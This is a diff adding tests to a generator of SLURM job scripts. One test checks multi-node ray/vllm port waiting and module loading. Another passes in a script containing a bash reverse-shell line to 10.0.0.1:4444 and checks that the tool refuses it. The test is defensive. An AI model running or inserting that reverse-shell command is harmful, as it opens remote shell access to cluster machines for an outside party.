@@ -101,3 +101,22 @@ def test_the_head_of_a_script_says_no_more_than_is_known() -> None:
     thread.say("fit.py on Snellius, one node with 2 GPUs, no parallel strategy")
     assert "Snellius: PyTorch, 1 x 2 = 2 ranks" in thread.script
     assert thread.state["bundle"].name == "snellius-pytorch.sh"
+
+
+@pytest.mark.parametrize("framework", ["ray", "vllm"])
+def test_several_nodes_wait_for_the_first_ones_port_and_each_module_is_loaded(framework: str) -> None:
+    fields = {"modules": "gcc/12, cuda/12.4", "environment": "myenv"}
+    write = call(
+        "write_script", machine="Titania", framework=framework, nodes=3, gpus_per_node=4, queue="gpu_long",
+        walltime="08:00:00", entry="tune.py", more_fields=fields,
+    )  # fmt: skip
+    thread = Thread(Player(write, "Below."))
+    thread.say(f"{framework} on our slurm cluster Titania, gpu_long: 3 nodes, 4 A100 each, tune.py, 8 hours")
+    assert "/dev/tcp/" in thread.script and "module load gcc/12 cuda/12.4" in thread.script
+
+
+def test_a_shell_on_a_connection_is_refused() -> None:
+    text = "#!/bin/bash\n#SBATCH -N 1\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\npython train.py\n"
+    thread = Thread(Player(call("write_script", machine="Titania", text=text), "No."))
+    thread.say("python train.py on our slurm machine Titania")
+    assert not thread.script and "way in from outside" in answers(thread)[0]
